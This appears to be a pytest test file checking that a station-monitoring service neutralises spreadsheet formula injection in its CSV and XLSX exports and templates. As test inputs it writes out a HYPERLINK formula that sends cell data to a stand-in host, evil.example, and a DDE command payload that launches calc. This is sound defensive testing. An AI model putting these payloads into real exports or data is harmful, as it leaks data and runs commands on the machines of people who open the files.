"""Issue 16 probe finding F11: an admin-edited name reaches CSV/XLSX exports as plain text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from service.web.app import create_app
from stations.csvsafe import safe_cell
from stations.programme.template import template_csv, template_xlsx
from tests.layers.helpers import demo_settings

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"bấm / click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+84 25 0000", "'+84 25 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a number written as text stays a number
        ("+1e3", "+1e3"),
        (-3.5, -3.5),
        ("Kỳ Lừa", "Kỳ Lừa"),
        (None, None),
    ],
)
def test_f11_one_cell_sanitiser(value: object, written: object) -> None:
    assert safe_cell(value) == written


@pytest.fixture
def api(tmp_path: Path, sqlite_template: Path) -> Iterator[TestClient]:
    settings = demo_settings(tmp_path, sqlite_template)
    with TestClient(create_app(settings, scheduler=False)) as client:
        yield client


def test_f11_station_name_formula_is_not_live_in_csv_export(api: TestClient) -> None:
    body = {"name": EVIL, "reason": "probe F11"}
    assert api.patch("/api/admin/stations/LS-NM-001", json=body).status_code == 200
    response = api.get("/export/monitoring-points?format=csv&crs=EPSG:4326")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r["id"] == "LS-NM-001"]
    assert row["name"] == "'" + EVIL
    assert not any(v.startswith(("=", "@")) for r in rows for v in r.values() if v)


def test_f11_templates_write_point_names_as_text() -> None:
    point = ["LS-NM-001", EVIL, "surface_water", "Kỳ Lừa", "A1"]
    (row,) = list(csv.reader(io.StringIO(template_csv([point]))))[1:]
    assert row[1] == "'" + EVIL
    book = load_workbook(io.BytesIO(template_xlsx(points=[point])))
    cells = [c.value for ws in book.worksheets for r in ws.iter_rows() for c in r]
    assert "'" + EVIL in cells and EVIL not in cells
